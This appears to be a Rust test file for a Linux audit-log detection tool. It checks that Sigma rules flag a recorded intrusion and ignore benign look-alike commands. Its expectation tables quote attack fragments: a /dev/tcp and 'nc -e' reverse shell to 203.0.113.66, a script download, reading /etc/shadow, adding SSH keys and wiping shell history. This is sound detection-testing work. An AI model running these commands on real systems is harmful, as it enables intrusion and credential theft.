//! Sigma rules over recordings: our own pack for and against recorded events, and SigmaHQ's rules for Linux.
//!
//! The recordings and SigmaHQ's rules are no part of this project: where they are not beside it (or at
//! $TRAILHOUND_SHARED), this says so and tests nothing. The demonstration's recording is, and is always tested.

#![allow(clippy::unwrap_used)]

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::sync::Arc;

use serde_json::Value;
use trailhound::model::output::OutputKind;
use trailhound::model::{Input, Kind, Outputs, Settings, Source, Timestamp};
use trailhound::pipeline::detect::RuleSet;
use trailhound::pipeline::intel::IntelSet;
use trailhound::pipeline::lane::Lane;
use trailhound::runtime::rules;

#[path = "sigma/files.rs"]
mod files;
#[path = "sigma/engine.rs"]
mod engine;

fn shared() -> Option<PathBuf> {
    let beside = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared");
    let shared = std::env::var_os("TRAILHOUND_SHARED").map_or(beside, PathBuf::from);
    let there = shared.join("corpus/sigma").exists();
    if !there {
        eprintln!(
            "NOT TESTED: no recordings and rules at {}",
            shared.display()
        );
    }
    there.then_some(shared)
}

/// All documents, in order.
fn documents(text: &[u8], rules: RuleSet) -> Vec<Value> {
    let settings = Settings {
        kinds: Kind::ALL.into_iter().collect(),
        ..Settings::default()
    };
    let (mut lane, intel) = (Lane::new(Arc::new(settings)), IntelSet::default());
    lane.follow_rules(&Arc::new(rules));
    let (mut out, mut all) = (Outputs::new(), Vec::new());
    let mut take = |out: &mut Outputs| {
        for output in out.iter() {
            if matches!(output.kind, OutputKind::Event(_)) {
                all.push(serde_json::from_slice(output.value).unwrap());
            }
        }
        out.clear();
    };
    for (offset, value) in (0..).zip(text.split(|b| *b == b'\n')) {
        let input = Input {
            source: Source::Audit,
            value,
            key: Some(b"web01"),
            host: None,
            offset,
        };
        lane.step(Timestamp(0), input, &intel, &mut out);
        take(&mut out);
    }
    lane.finish(&intel, &mut out);
    take(&mut out);
    all
}

fn attack() -> Vec<u8> {
    let packed = std::fs::read("src/cli/demo/recording/attack.log.zst").unwrap();
    zstd::decode_all(&packed[..]).unwrap()
}

fn pack() -> RuleSet {
    let loaded = rules::load(&[], true).unwrap();
    assert_eq!(loaded.refused, []);
    loaded.set
}

/// A hit: the rule, its severity, the session's user or none, and what the alert says.
struct Match {
    title: String,
    severity: u64,
    session: String,
    message: String,
}

fn matches(documents: &[Value]) -> Vec<Match> {
    let sessions: BTreeMap<&str, &Value> = documents
        .iter()
        .filter_map(|d| Some((d.pointer("/metadata/uid")?.as_str()?, d)))
        .collect();
    let alerts = documents
        .iter()
        .filter(|d| d["class_uid"] == 2004 && d["unmapped"]["tags"].is_array());
    alerts
        .map(|alert| {
            let event = alert
                .pointer("/finding_info/related_events/0/uid")
                .and_then(Value::as_str);
            let event = event
                .and_then(|uid| sessions.get(uid))
                .expect("the event is told");
            let session = ["/process/session/uid", "/actor/session/uid"];
            let session = session
                .iter()
                .find_map(|path| event.pointer(path)?.as_str());
            Match {
                title: alert["finding_info"]["title"].as_str().unwrap().to_owned(),
                severity: alert["severity_id"].as_u64().unwrap(),
                session: session.unwrap_or_default().to_owned(),
                message: alert["message"].as_str().unwrap().to_owned(),
            }
        })
        .collect()
}

/// A rule of the pack, and what a recorded event that it must tell holds.
const FOR: [(&str, &str); 17] = [
    ("Host survey command", "uname -a"),
    ("Host survey command", "/usr/bin/lsb_release -a"),
    ("Accounts of the host are listed", "cut -d: -f1 /etc/passwd"),
    ("Accounts of the host are listed", "/var/spool/mail/"),
    ("Hashes of passwords are read", "cat /etc/shadow"),
    (
        "Search for set-uid programs",
        "find /usr/bin -perm -4000 -type f",
    ),
    (
        "Download into a hidden or world-writable directory",
        "wget -q http://203.0.113.66:8000/upd.sh",
    ),
    (
        "Download into a hidden or world-writable directory",
        "curl -s -o c2.txt",
    ),
    (
        "Script of a hidden or world-writable directory",
        "/bin/sh ./upd.sh",
    ),
    (
        "Script of a hidden or world-writable directory",
        "/home/deploy/.cache/.x/upd.sh cron",
    ),
    ("Program of a hidden or world-writable directory", "./.k -c"),
    ("Program of a hidden or world-writable directory", "./t32"),
    ("Reverse shell", "/dev/tcp/203.0.113.66/8000"),
    ("Encoded text is decoded for a shell", "base64 -d"),
    ("Program in memory alone", "[kworker/0:1]"),
    ("Crontab is replaced", "crontab -"),
    ("Shell is copied", "cp /bin/bash .k"),
];

/// Sessions of the recording: the administrator's three, and cron's for root.
const EVERYDAY: [&str; 4] = ["49", "50", "51", "54"];

#[test]
fn the_pack_tells_the_recorded_attack_and_leaves_everyday_work_alone() {
    let found = matches(&documents(&attack(), pack()));
    for (title, what) in FOR {
        let told = found
            .iter()
            .any(|m| m.title == title && m.message.contains(what));
        assert!(told, "{title}: {what}");
    }
    let loud =
        |m: &&Match| m.severity > 2 && (EVERYDAY.contains(&&*m.session) || m.session.is_empty());
    let loud: Vec<&str> = found.iter().filter(loud).map(|m| &*m.message).collect();
    assert!(loud.is_empty(), "{loud:#?}");
    let mut counts: BTreeMap<(&str, &str), usize> = BTreeMap::new();
    for m in &found {
        *counts.entry((&m.session, &m.title)).or_default() += 1;
    }
    eprintln!("{counts:#?}");
}

/// Events that are like those of a rule and must not be told by it.
#[test]
fn what_only_looks_alike_is_not_told() {
    let start = |serial: usize, exe: &str, cwd: &str, line: &str| {
        let argv: Vec<String> = line
            .split('|')
            .enumerate()
            .map(|(i, word)| format!("a{i}={}", hex(word)))
            .collect();
        format!(
            "type=SYSCALL msg=audit(1700000000.{serial:03}:{serial}): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=0 ppid=7 pid={} auid=1101 uid=1101 gid=1 euid=1101 suid=1 fsuid=1 egid=1 sgid=1 fsgid=1 tty=(none) ses=5 comm=\"x\" exe=\"{exe}\" key=\"exec\"\n\
             type=EXECVE msg=audit(1700000000.{serial:03}:{serial}): argc={} {}\n\
             type=CWD msg=audit(1700000000.{serial:03}:{serial}): cwd=\"{cwd}\"\n\
             type=PROCTITLE msg=audit(1700000000.{serial:03}:{serial}): proctitle=\"x\"\n",
            100 + serial,
            argv.len(),
            argv.join(" "),
        )
    };
    let against = [
        (
            "/usr/bin/curl",
            "/home/a",
            "curl|-s|-o|/dev/null|http://127.0.0.1/",
        ),
        (
            "/usr/bin/curl",
            "/home/a",
            "curl|-s|http://127.0.0.1/health",
        ),
        (
            "/usr/bin/wget",
            "/home/a/downloads",
            "wget|https://example.org/a.tar",
        ),
        (
            "/usr/bin/dash",
            "/home/a",
            "/bin/sh|/usr/local/sbin/appstat.sh|--quick",
        ),
        ("/usr/bin/dash", "/home/a", "/bin/sh|-c|uptime"),
        ("/usr/bin/crontab", "/", "crontab|-l"),
        ("/usr/bin/chmod", "/", "chmod|755|a.sh"),
        ("/usr/bin/chmod", "/", "chmod|+x|a.sh"),
        ("/usr/bin/cp", "/", "cp|/bin/ls|/srv/ls"),
        ("/usr/bin/find", "/", "find|/var/log|-name|*.gz"),
        ("/usr/bin/rm", "/", "rm|-f|/srv/cache/x"),
        ("/usr/bin/nc", "/", "nc|-z|db01|5432"),
        ("/usr/sbin/usermod", "/", "usermod|-s|/bin/zsh|alice"),
        ("/usr/bin/base64", "/", "base64|a.png"),
        ("/usr/bin/cat", "/", "cat|/etc/hostname"),
        ("/usr/bin/passwd", "/", "passwd|alice"),
    ];
    let text: String = (1..)
        .zip(against)
        .map(|(n, (exe, cwd, line))| start(n, exe, cwd, line))
        .collect();
    let found = matches(&documents(text.as_bytes(), pack()));
    let told: Vec<String> = found.iter().map(|m| m.message.clone()).collect();
    assert!(told.is_empty(), "{told:#?}");
    let for_them = [
        (
            "/usr/bin/chmod",
            "/",
            "chmod|4755|/srv/x",
            "Program is made set-uid",
        ),
        (
            "/usr/bin/chmod",
            "/",
            "chmod|u+s|/srv/x",
            "Program is made set-uid",
        ),
        (
            "/usr/sbin/useradd",
            "/",
            "useradd|-m|eve",
            "Account is made or given rights",
        ),
        (
            "/usr/sbin/usermod",
            "/",
            "usermod|-aG|sudo|eve",
            "Account is made or given rights",
        ),
        (
            "/usr/bin/rm",
            "/",
            "rm|-f|/home/a/.bash_history",
            "Traces are wiped",
        ),
        (
            "/usr/bin/nc.openbsd",
            "/",
            "nc|-e|/bin/sh|203.0.113.66|1",
            "Reverse shell",
        ),
        (
            "/usr/bin/tee",
            "/",
            "tee|-a|/home/a/.ssh/authorized_keys",
            "Keys for logging on are changed",
        ),
        (
            "/usr/bin/grep",
            "/",
            "grep|-r|id_rsa|/home",
            "Private keys or credentials are looked for",
        ),
    ];
    for (exe, cwd, line, title) in for_them {
        let found = matches(&documents(start(1, exe, cwd, line).as_bytes(), pack()));
        assert!(found.iter().any(|m| m.title == title), "{title}: {line}");
    }
}

fn hex(text: &str) -> String {
    text.bytes().map(|b| format!("{b:02X}")).collect()
}

#[test]
fn the_pack_on_every_variant_of_the_attack() {
    let Some(shared) = shared() else { return };
    for name in ["raw", "enriched", "node"] {
        let log = std::fs::read(shared.join(format!("corpus/live/{name}.plugin.log"))).unwrap();
        let found = matches(&documents(&log, pack()));
        let loud: BTreeSet<&str> = found
            .iter()
            .filter(|m| m.severity > 2)
            .map(|m| &*m.session)
            .collect();
        eprintln!(
            "{name}: {} matches; above low in sessions {loud:?}",
            found.len()
        );
        // deploy's session, and those of cron that run what it left behind.
        assert!((1..=4).contains(&loud.len()), "{name}: {loud:?}");
    }
}

/// Findings of stories: id, step, severity, document.
fn stories(documents: &[Value]) -> Vec<(String, String, u64, Value)> {
    let told = documents
        .iter()
        .filter(|d| d.pointer("/unmapped/story").is_some());
    told.map(|d| {
        let text = |path: &str| {
            d.pointer(path)
                .and_then(Value::as_str)
                .unwrap_or_default()
                .to_owned()
        };
        (
            text("/finding_info/uid"),
            text("/unmapped/story/step"),
            d["severity_id"].as_u64().unwrap(),
            d.clone(),
        )
    })
    .collect()
}

#[test]
fn the_attack_is_one_finding_and_everyday_work_is_none() {
    let all = documents(&attack(), pack());
    let told = stories(&all);
    let ids: BTreeSet<&str> = told.iter().map(|(id, ..)| &**id).collect();
    assert_eq!(ids.len(), 1, "{ids:?}");
    assert_eq!((&*told[0].1, told[0].2), ("created", 4));
    let (_, step, severity, last) = told.last().unwrap();
    assert_eq!((&**step, *severity), ("closed", 5));
    let message = last["message"].as_str().unwrap();
    eprintln!("{message}");
    assert!(
        message.contains("deploy") && message.contains("203.0.113.66"),
        "{message}"
    );
    let stages = last["unmapped"]["story"]["stages"].as_array().unwrap();
    let tactics: Vec<&str> = stages
        .iter()
        .map(|stage| stage["tactic"].as_str().unwrap())
        .collect();
    let first = |tactic: &str| {
        tactics
            .iter()
            .position(|one| *one == tactic)
            .unwrap_or_else(|| panic!("{tactic} in {tactics:?}"))
    };
    assert!(first("credential-access") < first("command-and-control"));
    assert!(first("command-and-control") < first("persistence"));
    // Each stage is proved by an event that was told, of a session from that address or of the logon.
    for stage in stages {
        let uid = stage["event_uid"].as_str().unwrap();
        let event = all
            .iter()
            .find(|d| d.pointer("/metadata/uid").and_then(Value::as_str) == Some(uid));
        assert!(
            event.is_some_and(|event| event.to_string().contains("203.0.113.66")),
            "{stage}"
        );
    }
}

#[test]
fn each_variant_of_the_attack_is_one_finding() {
    let Some(shared) = shared() else { return };
    for name in ["raw", "enriched", "node"] {
        let log = std::fs::read(shared.join(format!("corpus/live/{name}.plugin.log"))).unwrap();
        let told = stories(&documents(&log, pack()));
        let ids: BTreeSet<&str> = told.iter().map(|(id, ..)| &**id).collect();
        let steps: Vec<(&str, u64)> = told
            .iter()
            .map(|(_, step, severity, _)| (&**step, *severity))
            .collect();
        eprintln!("{name}: {steps:?}");
        assert_eq!(ids.len(), 1, "{name}: {ids:?}");
        assert!(
            told.iter()
                .all(|(.., d)| d.to_string().contains("203.0.113.66")),
            "{name}"
        );
    }
    let packed = std::fs::read(shared.join("corpus/live/load.plugin.log.zst")).unwrap();
    let told = stories(&documents(&zstd::decode_all(&packed[..]).unwrap(), pack()));
    assert!(told.is_empty(), "the load: {told:?}");
}

#[test]
fn the_rules_of_sigmahq_are_loaded_and_which_match_is_told() {
    let Some(shared) = shared() else { return };
    let folder = [shared.join("corpus/sigma")];
    let loaded = rules::load(&folder, false).unwrap();
    let mut reasons: BTreeMap<&str, usize> = BTreeMap::new();
    for refused in &loaded.refused {
        *reasons.entry(&refused.reason).or_default() += 1;
    }
    eprintln!(
        "{} of {} files loaded; not taken: {reasons:#?}",
        loaded.set.len(),
        loaded.files
    );
    assert_eq!(loaded.files, 214);
    assert!(loaded.set.len() >= 185, "{}", loaded.set.len());
    assert_eq!(loaded.set.len() + loaded.refused.len(), loaded.files);
    for name in ["live/raw.plugin.log", "audit/msticpy/auditd_log.txt"] {
        let Ok(log) = std::fs::read(shared.join("corpus").join(name)) else {
            eprintln!("NOT TESTED: {name}");
            continue;
        };
        let rules = rules::load(&folder, false).unwrap().set;
        let mut counts: BTreeMap<String, usize> = BTreeMap::new();
        for m in matches(&documents(&log, rules)) {
            *counts.entry(m.title).or_default() += 1;
        }
        eprintln!("{name}: {counts:#?}");
        assert!(!counts.is_empty(), "{name}");
    }
}
